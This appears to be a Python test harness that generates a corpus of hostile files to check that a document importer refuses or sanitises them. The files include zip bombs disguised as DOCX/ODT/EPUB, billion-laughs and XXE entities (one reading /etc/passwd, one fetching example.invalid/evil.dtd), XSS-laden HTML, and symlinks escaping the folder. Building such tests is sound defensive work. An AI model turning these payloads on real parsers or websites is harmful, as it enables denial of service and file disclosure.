"""A generated corpus of hostile files for the importer, and a harness that imports it and counts.

Every file is made here from code (no binary fixtures), deterministic for a given seed, and
unique in content unless it is meant to be refused before it is hashed, so a parallel run never
races on a duplicate. `generate(folder, outside, scale)` writes ≈1,000 files at scale 1.0;
a smaller scale keeps every category and every variant of it, with fewer repetitions. Used by
tests/library/test_hostile_corpus.py and benchmarks/hostile_corpus.py (the tally table).
"""

from __future__ import annotations

import io
import random
import threading
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

from tests.library import samples

IMPORTED, REFUSED, ANY, SKIPPED = "imported", "refused", "any", "skipped"
MARKER = "HOSTILE_SCRIPT_MARKER"  # text that lives only in places a reader must never show
SPARSE_BYTES = 2 * 1024**3


@dataclass(frozen=True)
class Case:
    """One generated file: its name in the folder, its category, what must happen to it."""

    name: str
    category: str
    expect: str  # imported, refused, any (either, but never a crash) or skipped (not imported)
    says: str = ""  # a word the refusal must contain


@dataclass
class Tally:
    """What the harness saw: outcomes per category, problems, and the slowest file."""

    rows: dict[str, Counter[str]] = field(default_factory=dict)
    problems: list[str] = field(default_factory=list)
    slowest: tuple[float, str] = (0.0, "")
    files: int = 0
    seconds: float = 0.0

    def add(self, category: str, status: str) -> None:
        self.rows.setdefault(category, Counter())[status] += 1


# --- PDF writing ------------------------------------------------------------------------------


def pdf_pages(texts: list[str], title: str = "Report") -> bytes:
    """A PDF with one page per text (Helvetica, lines of about 90 characters)."""
    count = len(texts)
    font = 3 + 2 * count
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(count))
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
    ]
    for i, text in enumerate(texts):
        lines = [text[j : j + 90] for j in range(0, len(text), 90)][:50]
        ops = " ".join(f"({_pdf_escape(line)}) Tj T*" for line in lines)
        stream = f"BT /F1 10 Tf 12 TL 50 760 Td {ops} ET".encode("cp1252", "replace")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {4 + 2 * i} 0 R "
            f"/Resources << /Font << /F1 {font} 0 R >> >> >>".encode()
        )
        objects.append(
            b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream"
        )
    objects.append(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    )
    objects.append(f"<< /Title ({_pdf_escape(title)}) /Author (Generated) >>".encode())
    return samples.pdf_from_objects(objects, trailer=f"/Info {len(objects)} 0 R ")


def _pdf_escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _words(rng: random.Random, n: int) -> str:
    pool = (samples.ENGLISH + " " + samples.SPANISH + " " + samples.FRENCH).split()
    return " ".join(rng.choice(pool) for _ in range(n))


def _encrypted_pdf(plain: bytes, algorithm: str, user: str, owner: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
    writer.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _font_and_page(contents: str = "4 0 R") -> list[bytes]:
    stream = b"BT /F1 12 Tf 72 720 Td (Recursive but readable) Tj ET"
    return [
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {contents} "
        "/Resources << /Font << /F1 5 0 R >> >> >>".encode(),
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def _object_stream_pdf(entries: dict[int, str], extends_self: bool, unique: str) -> bytes:
    """A PDF 1.5 whose objects live in an object stream (object 6) found by an xref stream."""
    header = " ".join(f"{n} {0}" for n in entries)  # offsets fixed below
    bodies, offsets, position = [], [], 0
    for value in entries.values():
        offsets.append(position)
        bodies.append(value)
        position += len(value) + 1
    header = " ".join(f"{n} {o}" for n, o in zip(entries, offsets, strict=True)) + " "
    data = (header + " ".join(bodies)).encode()
    extends = "/Extends 6 0 R " if extends_self else ""
    objstm = (
        (
            f"<< /Type /ObjStm /N {len(entries)} /First {len(header)} {extends}"
            f"/Length {len(data)} >>"
            "\nstream\n"
        ).encode()
        + data
        + b"\nendstream"
    )
    out = io.BytesIO()
    out.write(f"%PDF-1.5\n% {unique}\n".encode())
    pos6 = out.tell()
    out.write(b"6 0 obj\n" + objstm + b"\nendobj\n")
    size = max(max(entries), 7) + 1
    rows = bytearray()
    for number in range(size):
        if number in entries:
            rows += (
                bytes([2]) + (6).to_bytes(4, "big") + list(entries).index(number).to_bytes(2, "big")
            )
        elif number == 6:
            rows += bytes([1]) + pos6.to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number == 7:
            rows += bytes([1]) + out.tell().to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    pos7 = out.tell()
    out.write(
        f"7 0 obj\n<< /Type /XRef /Size {size} /W [1 4 2] /Root 1 0 R /Length {len(rows)} >>"
        "\nstream\n".encode()
        + bytes(rows)
        + f"\nendstream\nendobj\nstartxref\n{pos7}\n%%EOF\n".encode()
    )
    return out.getvalue()


def _recursive_pdf(variant: int, unique: str) -> bytes:
    """Object graphs that loop: page trees, content arrays, xref chains, object streams."""
    page = _font_and_page()
    if variant == 0:  # the page tree's kids point back to the root of the tree
        return samples.pdf_from_objects(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                *page,
            ],
            trailer=f"/ID [({unique}) ({unique})] ",
        )
    if variant == 1:  # two page-tree nodes that are each other's kid
        return samples.pdf_from_objects(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
                *page,
                b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
            ],
            trailer=f"/ID [({unique}) ({unique})] ",
        )
    if variant == 2:  # a content array that contains itself
        return samples.pdf_from_objects(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                *_font_and_page("6 0 R"),
                b"[6 0 R 4 0 R]",
            ],
            trailer=f"/ID [({unique}) ({unique})] ",
        )
    if variant == 3:  # the cross-reference table's /Prev is itself
        return samples.pdf_from_objects(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                *page,
            ],
            trailer=f"/Prev {{xref}} /ID [({unique}) ({unique})] ",
        )
    if variant == 4:  # an object stream that extends itself and holds the catalog
        return _object_stream_pdf(
            {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 0 >>"},
            True,
            unique,
        )
    if variant == 5:  # an object in an object stream that is a reference to itself
        return _object_stream_pdf(
            {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "3 0 R", 3: "2 0 R"}, False, unique
        )
    if variant == 6:  # an object stream that claims to hold itself
        return _object_stream_pdf(
            {1: "<< /Type /Catalog /Pages 6 0 R >>", 6: "<< /Type /Pages /Kids [6 0 R] >>"},
            False,
            unique,
        )
    depth = 50_000 if variant == 7 else 5_000  # arrays nested deeper than any parser's stack
    nested = b"[" * depth + b"]" * depth
    return samples.pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep 3 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            nested,
        ],
        trailer=f"/ID [({unique}) ({unique})] ",
    )


# --- zip containers ---------------------------------------------------------------------------


_BOMBS: dict[tuple[str, int], bytes] = {}


def _bomb(fmt: str, variant: int, unique: str) -> bytes:
    """Zip bombs in the clothes of a DOCX, ODT or EPUB (made once, then made unique)."""
    if (fmt, variant) not in _BOMBS:
        _BOMBS[fmt, variant] = _make_bomb(fmt, variant)
    buffer = io.BytesIO(_BOMBS[fmt, variant])
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("id", unique)
    return buffer.getvalue()


def _make_bomb(fmt: str, variant: int) -> bytes:
    inner = {"docx": "word/document.xml", "odt": "content.xml", "epub": "OEBPS/c0.xhtml"}[fmt]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("mimetype", fmt)
        if variant == 0:  # one member that inflates a thousandfold
            archive.writestr(inner, b"\0" * 30_000_000)
        elif variant == 1:  # many members, each modest, the sum far over the limit
            for i in range(40):
                archive.writestr(f"{inner}.{i}", b" " * 9_000_000)
        elif variant == 2:  # more members than any document has
            for i in range(12_000):
                archive.writestr(f"m/{i}", b"")
        else:  # a zip inside the zip (the inner one a bomb itself)
            nested = io.BytesIO()
            with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED) as deep:
                deep.writestr("deep", b"\0" * 20_000_000)
            archive.writestr(inner, nested.getvalue())
            archive.writestr("big", b"\0" * 20_000_000)
    return buffer.getvalue()


def _entity_attack(fmt: str, variant: int, unique: str) -> bytes:
    """Billion laughs, quadratic blow-up and external entities inside the package's XML."""
    if variant == 0:
        dtd = '<!ENTITY a "lol">' + "".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
        )
        payload = "&j;"
    elif variant == 1:
        dtd, payload = f'<!ENTITY big "{"x" * 50_000}">', "&big;" * 50_000
    elif variant == 2:
        dtd, payload = '<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"
    else:
        dtd, payload = '<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;', ""
    xml = f'<?xml version="1.0"?><!DOCTYPE d [{dtd}]><d xmlns="x">{unique}{payload}</d>'
    inner = {
        "docx": ["word/document.xml", "docProps/core.xml"],
        "odt": ["content.xml", "meta.xml"],
        "epub": ["META-INF/container.xml"],
    }[fmt]
    members: dict[str, bytes | str] = {}
    if fmt == "docx" and variant % 2:  # the attack in the metadata, the body clean
        members["word/document.xml"] = (
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{unique}</w:t></w:r></w:p></w:body></w:document>"
        )
        members["docProps/core.xml"] = xml
    else:
        members[inner[0]] = xml
    return samples.zip_bytes(members)


# --- HTML ---------------------------------------------------------------------------------------

_HTML_ATTACKS = (
    f"<script>document.write('{MARKER}')</script>",
    f"<iframe src='http://example.invalid/{MARKER}'></iframe>",
    f"<img src='http://example.invalid/{MARKER}.png' onerror=\"alert('{MARKER}')\">",
    f"<a href=\"javascript:alert('{MARKER}')\">a link</a>",
    f"<meta http-equiv='refresh' content='0;url=http://example.invalid/{MARKER}'>",
    f"<svg onload=\"alert('{MARKER}')\"><script>{MARKER}</script></svg>",
    f"<style>body{{background:url('http://example.invalid/{MARKER}')}}</style>",
    f"<object data='http://example.invalid/{MARKER}.swf'></object>",
    f"<base href='http://example.invalid/'><link rel=stylesheet href='/{MARKER}.css'>",
    f"<noscript>{MARKER}</noscript><template>{MARKER}</template>",
    f"<form action='http://example.invalid/'><input value='x'></form><!-- {MARKER} -->",
    f"<ScRiPt type='text/javascript'>{MARKER}</sCrIpT>",
    f"<script>/*</script><script>*/{MARKER}</script>",
)


def _html(variant: int, rng: random.Random, unique: str) -> str:
    attacks = "".join(_HTML_ATTACKS[(variant + k) % len(_HTML_ATTACKS)] for k in range(3))
    return (
        f"<!doctype html><html lang='en'><head><title>Page {unique}</title>{attacks}</head>"
        f"<body>{attacks}<p>{unique} {_words(rng, 60)}</p>{attacks}</body></html>"
    )


# --- the corpus -------------------------------------------------------------------------------

_ENCODINGS = (
    "latin-1",
    "cp1252",
    "utf-16-le",
    "utf-16-be",
    "shift_jis",
    "koi8-r",
    "cp850",
    "mac_roman",
)
_ODD_NAMES = (
    "line\nbreak {u}.txt",
    "\u202eright-to-left {u}.txt",
    "\u200f\u061f mark {u}.md",
    "tab\tin name {u}.txt",
    "zero\u200bwidth {u}.html",
    "-leading dash {u}.txt",
    "combining e\u0301\u0301\u0301 {u}.md",
    "  spaces  {u} .txt",
    "emoji \U0001f4c4 {u}.txt",
    "{long} {u}.txt",
)
_NOT_PDF = (
    b"\x89PNG\r\n\x1a\n" + b"\0" * 200,
    b"PK\x03\x04" + b"\0" * 200,
    b"<html><body>not a pdf</body></html>",
    b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    b"MZ\x90\x00" + b"\0" * 200,
    b"GIF89a" + b"\0" * 200,
    b"Just some text pretending to be a PDF",
    b"\xff\xd8\xff\xe0" + b"\0" * 200,
)


def cases_for(scale: float) -> Iterator[tuple[str, int]]:
    """(category, repetitions) at `scale` (1.0 gives ≈1,000 files, never fewer than 1 each)."""
    plan = {
        "truncated PDF": 100,
        "corrupt PDF": 100,
        "encrypted PDF": 48,
        "recursive PDF": 48,
        "zip bomb": 48,
        "XML entity attack": 48,
        "hostile HTML": 120,
        "not what its name says": 80,
        "0-byte": 35,
        "empty content": 35,
        "2 GB sparse": 3,
        "odd name": 80,
        "symlink out": 30,
        "non-UTF-8 text": 112,
        "valid PDF": 60,
        "valid DOCX/ODT/EPUB": 60,
    }
    for category, count in plan.items():
        yield category, max(1, round(count * scale))


def generate(folder: Path, outside: Path, scale: float = 1.0, seed: int = 20) -> list[Case]:
    """Writes the corpus into `folder` (links point into `outside`); returns what it wrote."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    serial = 0

    def put(name: str, data: bytes | str, category: str, expect: str, says: str = "") -> None:
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        cases.append(Case(name, category, expect, says))

    def unique() -> str:
        nonlocal serial
        serial += 1
        return f"u{seed}x{serial:05d}"

    for category, count in cases_for(scale):
        for i in range(count):
            u = unique()
            if category == "truncated PDF":
                full = pdf_pages([f"{u} {_words(rng, 150)}" for _ in range(1 + i % 4)], u)
                cut = rng.randrange(8, len(full) - 8)
                put(f"truncated {u}.pdf", full[:cut], category, ANY)
            elif category == "corrupt PDF":
                data = bytearray(pdf_pages([f"{u} {_words(rng, 80)}" for _ in range(2)], u))
                for _flip in range(1 + i % 40):
                    data[rng.randrange(9, len(data))] = rng.randrange(256)
                if i % 5 == 0:  # a lying cross-reference table
                    data += b"xref\n0 999999\n0000000000 65535 f \nstartxref\n-5\n%%EOF"
                put(f"corrupt {u}.pdf", bytes(data), category, ANY)
            elif category == "encrypted PDF":
                plain = pdf_pages([f"{u} {_words(rng, 40)}"], u)
                algorithm = ("RC4-40", "RC4-128", "AES-128", "AES-256")[i % 4]
                put(
                    f"locked {u}.pdf",
                    _encrypted_pdf(plain, algorithm, "secret", "owner"),
                    category,
                    REFUSED,
                    "encrypted",
                )
            elif category == "recursive PDF":
                put(f"loop {u}.pdf", _recursive_pdf(i % 9, u), category, ANY)
            elif category == "zip bomb":
                fmt = ("docx", "odt", "epub")[i % 3]
                put(f"bomb {u}.{fmt}", _bomb(fmt, (i // 3) % 4, u), category, REFUSED)
            elif category == "XML entity attack":
                fmt = ("docx", "odt", "epub")[i % 3]
                put(f"entities {u}.{fmt}", _entity_attack(fmt, (i // 3) % 4, u), category, REFUSED)
            elif category == "hostile HTML":
                ext = (".html", ".htm", ".xhtml")[i % 3]
                put(f"page {u}{ext}", _html(i, rng, u), category, IMPORTED)
            elif category == "not what its name says":
                ext = (".pdf", ".pdf", ".docx", ".odt", ".epub")[i % 5]
                body = _NOT_PDF[i % len(_NOT_PDF)] + u.encode()
                if ext != ".pdf" and body.startswith(b"PK"):
                    body = b"not a zip " + body
                says = "not a PDF" if ext == ".pdf" else "is not a"
                put(f"fake {u}{ext}", body, category, REFUSED, says)
            elif category == "0-byte":
                ext = (".pdf", ".docx", ".odt", ".epub", ".html", ".md", ".txt")[i % 7]
                put(f"zero {u}{ext}", b"", category, REFUSED, "empty")
            elif category == "empty content":
                kind = i % 5
                if kind == 0:
                    put(
                        f"blank {u}.pdf",
                        samples.pdf_from_objects(
                            [
                                b"<< /Type /Catalog /Pages 2 0 R >>",
                                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                            ],
                            trailer=f"/ID [({u}) ({u})] ",
                        ),
                        category,
                        ANY,
                    )
                elif kind == 1:
                    put(
                        f"blank {u}.docx",
                        samples.docx_bytes([], title="", creator=u),
                        category,
                        ANY,
                    )
                elif kind == 2:
                    put(f"blank {u}.txt", " \n\t\n " * (i + 1), category, ANY)
                elif kind == 3:
                    put(
                        f"blank {u}.html",
                        f"<html><head><script>{u}</script></head></html>",
                        category,
                        ANY,
                    )
                else:
                    put(f"blank {u}.epub", samples.epub_bytes([], title=u), category, ANY)
            elif category == "2 GB sparse":
                ext = (".pdf", ".txt", ".docx")[i % 3]
                path = folder / f"sparse {u}{ext}"
                with open(path, "wb") as handle:
                    handle.truncate(SPARSE_BYTES)
                cases.append(Case(path.name, category, REFUSED, "200 MB"))
            elif category == "odd name":
                pattern = _ODD_NAMES[i % len(_ODD_NAMES)]
                name = pattern.format(u=u, long="L" * 200)
                text = f"{u} {_words(rng, 40)}"
                if name.endswith(".html"):
                    text = f"<p>{text}</p>"
                put(name, text, category, IMPORTED)
            elif category == "symlink out":
                target = outside / f"secret {u}.txt"
                target.write_text(f"{u} a private file outside the folder", encoding="utf-8")
                link = folder / f"link {u}.txt"
                kind = i % 3
                if kind == 0:
                    link.symlink_to(target)
                elif kind == 1:
                    link.symlink_to(outside / "missing.txt")  # dangling
                else:
                    link = folder / f"link {u}.pdf"
                    link.symlink_to("/etc/passwd" if Path("/etc/passwd").exists() else target)
                cases.append(Case(link.name, category, SKIPPED))
            elif category == "non-UTF-8 text":
                codec = _ENCODINGS[i % len(_ENCODINGS)]
                text = {
                    "shift_jis": f"{u} 社会的連帯経済 協同組合 " * 10,
                    "koi8-r": f"{u} Социальная и солидарная экономика " * 10,
                }.get(codec, f"{u} {samples.SPANISH} {samples.FRENCH}")
                encoded = text.encode(codec, "replace")
                if i % 7 == 6:  # invalid bytes in the middle of otherwise good text
                    encoded = encoded[:40] + b"\xff\xfe\xc3\x28\xa0\xa1" + encoded[40:]
                put(f"text {u} {codec}.txt", encoded, category, IMPORTED)
            elif category == "valid PDF":
                put(
                    f"good {u}.pdf",
                    pdf_pages([f"{u} {_words(rng, 120)}" for _ in range(1 + i % 6)], f"Good {u}"),
                    category,
                    IMPORTED,
                )
            elif category == "valid DOCX/ODT/EPUB":
                paras = [f"{u} {_words(rng, 50)}" for _ in range(3)]
                which = i % 3
                if which == 0:
                    put(
                        f"good {u}.docx",
                        samples.docx_bytes(paras, title=f"Good {u}"),
                        category,
                        IMPORTED,
                    )
                elif which == 1:
                    put(
                        f"good {u}.odt",
                        samples.odt_bytes(paras, title=f"Good {u}"),
                        category,
                        IMPORTED,
                    )
                else:
                    put(
                        f"good {u}.epub",
                        samples.epub_bytes(paras, title=f"Good {u}"),
                        category,
                        IMPORTED,
                    )
    return cases


# --- the harness ------------------------------------------------------------------------------


def run(
    folder: Path,
    cases: list[Case],
    import_one: Callable[[Path], tuple[str, str, object]],
    expand: Callable[[list[Path]], list[Path]],
    workers: int = 2,
) -> Tally:
    """Imports the folder (as the window does: its files, links not followed) with `workers`
    threads, checks each outcome against its case, and counts."""
    by_name = {c.name: c for c in cases}
    tally = Tally(files=len(cases))
    files = expand([folder])
    offered = {p.name for p in files}
    lock = threading.Lock()
    started = time.perf_counter()

    def one(path: Path) -> None:
        case = by_name.get(path.name)
        begin = time.perf_counter()
        try:
            status, message, _doc = import_one(path)
        except Exception as exc:  # noqa: BLE001 - a crash is what this harness counts
            status, message = "crash", f"{type(exc).__name__}: {exc}"
        took = time.perf_counter() - begin
        with lock:
            category = case.category if case else "?"
            tally.add(category, status)
            if took > tally.slowest[0]:
                tally.slowest = (took, path.name)
            problem = check(case, status, message)
            if problem:
                tally.problems.append(f"{path.name!r}: {problem}")

    with ThreadPoolExecutor(max_workers=workers) as pool:
        list(pool.map(one, files))
    for case in cases:
        if case.expect == SKIPPED:
            if case.name in offered:
                tally.problems.append(f"{case.name!r}: a link out of the folder was offered")
            else:
                tally.add(case.category, "skipped")
    tally.seconds = time.perf_counter() - started
    return tally


def check(case: Case | None, status: str, message: str) -> str:
    """What is wrong with this outcome ('' if nothing)."""
    if case is None:
        return "not a generated file"
    if status == "crash":
        return f"crashed: {message}"
    if status == "refused" and not plain_sentence(message):
        return f"refusal is not one plain sentence: {message!r}"
    if case.expect == IMPORTED and status != "imported":
        return f"expected an import, got {status}: {message}"
    if case.expect == REFUSED and status != "refused":
        return f"expected a refusal, got {status}: {message}"
    if case.expect == REFUSED and case.says and case.says.lower() not in message.lower():
        return f"the refusal does not say {case.says!r}: {message}"
    return ""


def plain_sentence(message: str) -> bool:
    """One line, ends like a sentence, no traceback or exception dump, reasonably short."""
    return (
        bool(message)
        and message[0].isupper()
        and message.rstrip().endswith(".")
        and "\n" not in message
        and "Traceback" not in message
        and len(message) < 300
    )


def importer_for(
    db_path: Path, library: Path, limits: object
) -> Callable[[Path], tuple[str, str, object]]:
    """import_one for `run`: each call on its own connection (SQLite's are per thread)."""
    from sseref.core.userdb import UserDatabase
    from sseref.core.userdocs import DocumentStore
    from sseref.library.importer import import_file
    from sseref.library.limits import Limits

    assert isinstance(limits, Limits)

    def import_one(path: Path) -> tuple[str, str, object]:
        db = UserDatabase(db_path, recover=False)
        try:
            outcome = import_file(DocumentStore(db, library), path, limits)
        finally:
            db.close()
        return outcome.status, outcome.message, outcome.document

    return import_one


def intact(docs: object, kept: list[str]) -> list[str]:
    """What is wrong with the library after the run ([] if nothing): the earlier documents are
    there, every copy matches its hash, the database passes its integrity check, no orphan."""
    import hashlib

    from sseref.core.userdocs import DocumentStore

    assert isinstance(docs, DocumentStore)
    problems = []
    if docs.conn.execute("PRAGMA integrity_check").fetchone()[0] != "ok":
        problems.append("integrity check failed")
    problems += [f"{sha[:8]} lost" for sha in kept if docs.by_hash(sha) is None]
    rows = docs.documents()
    for doc in rows:
        path = docs.file_path(doc.sha256, doc.format)
        if not path.is_file() or hashlib.sha256(path.read_bytes()).hexdigest() != doc.sha256:
            problems.append(f"copy of {doc.sha256[:8]} missing or changed")
    files = [p for p in docs.library_dir.rglob("*") if p.is_file()]
    if len(files) != len(rows):
        problems.append(f"{len(files)} files in the library for {len(rows)} documents")
    return problems


def leaked(docs: object) -> int:
    """Imported texts holding what only a script, style, frame or attribute held."""
    from sseref.core.userdocs import DocumentStore

    assert isinstance(docs, DocumentStore)
    row = docs.conn.execute(
        "SELECT count(*) FROM passage WHERE body LIKE ?", (f"%{MARKER}%",)
    ).fetchone()
    return int(row[0])
